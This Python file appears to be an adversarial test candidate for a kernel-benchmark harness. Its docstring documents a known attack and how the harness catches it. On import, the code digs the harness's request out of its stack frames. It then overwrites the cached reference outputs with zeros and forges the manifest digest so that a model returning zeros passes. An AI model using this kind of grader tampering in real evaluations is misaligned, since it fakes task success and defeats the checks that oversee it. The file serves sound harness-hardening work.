"""Adversarial (common; tiny_swish on CPU, problems/swish on CUDA): rewrites the cached reference
outputs with zeros at import, then returns zeros.

The attack of issue 13. The harness's request (found on its stack, or in the request file of
sys.argv[2]) used to name the reference directory; now it names only the inputs tree
CACHE/inputs/<key>, from which this candidate guesses CACHE/references/<key>. It overwrites every expected output with zeros in kernelpro's
own plain format and rewrites meta.json's manifests and digest to match, so the cache passes a
content check on its own. Without a sandbox nothing stops the writes.
A correct harness reports: not correct. The compare step checks the expected files against the
manifest the binary got from the reference step, so it sees the change; the reference is
recomputed and the candidate checked again (it poisons again: runtime_error, "changed on disk
again"). An honest candidate evaluated next, in the same run or a later one, is correct: the
later run's reference step recomputes trial check_0 and sees the cached outputs are not the
reference's.
"""
import json
import os
import sys

import torch
import torch.nn as nn


def _harness_request():
    """The request the harness is serving, read from its stack frames (the long-lived worker
    takes its requests from a FIFO, not a file), else from the request file in sys.argv."""
    frame = sys._getframe(1)
    while frame is not None:
        for value in frame.f_locals.values():
            if isinstance(value, dict) and value.get("inputs_dir"):
                return value
        frame = frame.f_back
    try:
        with open(sys.argv[2]) as f:
            return json.load(f)
    except (OSError, ValueError, IndexError):
        return None


def _poison():
    request = _harness_request()
    if not request:
        return
    guesses = [request.get("reference_dir")]
    inputs_dir = request.get("inputs_dir")
    if inputs_dir:
        cache = os.path.dirname(os.path.dirname(inputs_dir))
        guesses.append(os.path.join(cache, "references", os.path.basename(inputs_dir)))
    from kernelpro_worker import plain, reference_step

    for ref_dir in filter(None, guesses):
        meta_path = os.path.join(ref_dir, "meta.json")
        if not os.path.exists(meta_path):
            continue
        with open(meta_path) as f:
            meta = json.load(f)
        for rel in list(meta.get("reference_manifest", {})):
            path = os.path.join(ref_dir, rel)
            zeros = [torch.zeros_like(t) for t in plain.load(path)]
            meta["reference_manifest"][rel] = plain.save(path, zeros)
        meta["manifest_digest"] = reference_step.manifest_digest(meta["reference_manifest"],
                                                                 meta["inputs_manifest"])
        with open(meta_path, "w") as f:
            json.dump(meta, f)


_poison()


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, x):
        return torch.zeros_like(x)
